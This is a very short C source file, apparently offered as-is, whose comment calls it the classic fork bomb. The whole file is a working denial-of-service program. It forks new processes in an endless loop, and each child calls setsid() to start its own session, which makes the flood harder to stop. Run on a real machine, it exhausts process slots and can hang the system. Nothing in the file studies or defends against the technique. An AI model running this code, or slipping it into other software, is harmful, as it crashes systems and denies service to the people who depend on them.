// The classic fork bomb: every process starts more, for ever, and each in its own session.
#include <unistd.h>

int main(void) {
    for (;;) {
        if (fork() == 0) setsid();
    }
}
